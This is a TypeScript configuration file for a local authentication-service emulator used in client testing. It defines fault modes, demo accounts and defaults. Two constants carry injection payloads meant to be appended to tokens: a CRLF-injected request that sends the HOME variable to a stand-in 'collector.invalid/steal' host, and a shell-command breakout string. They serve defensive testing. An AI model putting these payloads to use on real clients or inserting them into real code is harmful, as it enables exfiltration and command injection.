// The emulator's configuration: its shape, the demo accounts and the defaults.
// Pure: no I/O. Used by the tests, `npm start` and the built-in demo service.

export interface EmulatorUser {
	/** User Group InstanceID. */
	instanceId: string;
	deviceToken: string;
	/** User Group InstanceKey: the user's password. */
	instanceKey: string;
	name?: string;
}

export interface EmulatorAdmin {
	/** API InstanceID. */
	instanceId: string;
	/** API Login. */
	email: string;
	/** API Password. */
	password: string;
}

/**
 * `bodyStatusMismatch` answers HTTP 200 with a body whose `Status` is 401, to model the
 * service's `Status` disagreeing with the HTTP status. `rateLimited` answers 429 with the
 * error envelope and `Retry-After`, as the service's rate limit does, on any endpoint.
 */
export type FaultMode = 'none' | 'hang' | 'reset' | 'html502' | 'slow' | 'error500' | 'bodyStatusMismatch' | 'rateLimited' | AnswerFault;

/**
 * A hostile or broken service that still answers 200 with tokens: `injectedToken` puts a line
 * break and a new request into the access token, `shellToken` a shell command, `expiredToken`
 * issues a token that expired a minute ago, `absurdExp` one whose `exp` is 1e16 (past what a
 * `Date` holds). The refresh token stays a real, rotating one.
 */
export type AnswerFault = 'injectedToken' | 'shellToken' | 'expiredToken' | 'absurdExp';

/** The text `injectedToken` appends to a real token. */
export const INJECTED_TAIL = '\r\n\r\n### stolen\r\nPOST http://collector.invalid/steal?home={{$processEnv HOME}}\r\n';
/** The text `shellToken` appends to a real token. */
export const SHELL_TAIL = "'; echo INJECTED; : '";

export interface EmulatorFaults {
	login?: FaultMode;
	refresh?: FaultMode;
	slowMs?: number;
	/** faults apply to the next N matching requests, then revert to 'none'; omitted = until changed */
	count?: number;
}

export interface LoginRateLimit {
	max: number;
	windowSeconds: number;
	blockSeconds: number;
}

export interface EmulatorConfig {
	host: string;
	port: number;
	users: EmulatorUser[];
	admins: EmulatorAdmin[];
	/** Becomes the JWT `exp` (iat + this) and `ExpiresIn` (seconds). */
	accessTokenLifetimeSeconds: number;
	refreshTokenLifetimeSeconds: number;
	/** Per client IP; failed and successful logins both count. */
	loginRateLimit: LoginRateLimit;
	faults: EmulatorFaults;
	/** When true, an admin login without an `InstanceId` header is a 422 (older samples send it). */
	requireInstanceHeaderForAdmin: boolean;
	/**
	 * When true (the default), a subject has one live refresh token: a new login or refresh
	 * spends the one before. When false, each login starts its own rotation chain.
	 */
	singleRefreshTokenPerSubject: boolean;
}

export const DEMO_USERS: EmulatorUser[] = [
	{ instanceId: 'demo-user-instance', deviceToken: 'demo-device-token', instanceKey: 'demo-instance-key', name: 'Demo Driver' },
	{ instanceId: 'demo-user-instance', deviceToken: 'demo-device-token-2', instanceKey: 'demo-instance-key', name: 'Second Driver' },
];

export const DEMO_ADMINS: EmulatorAdmin[] = [
	{ instanceId: 'demo-api-instance', email: 'admin@example.com', password: 'demo-password' },
];

export const DEFAULT_PORT = 0;
export const DEFAULT_SLOW_MS = 2000;

export function defaultConfig(): EmulatorConfig {
	return {
		host: '127.0.0.1',
		port: DEFAULT_PORT,
		users: DEMO_USERS.map((u) => ({ ...u })),
		admins: DEMO_ADMINS.map((a) => ({ ...a })),
		accessTokenLifetimeSeconds: 7200,
		refreshTokenLifetimeSeconds: 90 * 24 * 60 * 60,
		loginRateLimit: { max: 5, windowSeconds: 60, blockSeconds: 600 },
		faults: {},
		requireInstanceHeaderForAdmin: false,
		singleRefreshTokenPerSubject: true,
	};
}

/** Fills what `partial` leaves out with the defaults; nested objects are merged one level deep. */
export function resolveConfig(partial: Partial<EmulatorConfig> = {}): EmulatorConfig {
	const base = defaultConfig();
	const defined = Object.fromEntries(Object.entries(partial).filter(([, v]) => v !== undefined)) as Partial<EmulatorConfig>;
	return {
		...base,
		...defined,
		loginRateLimit: { ...base.loginRateLimit, ...defined.loginRateLimit },
		faults: { ...defined.faults },
	};
}
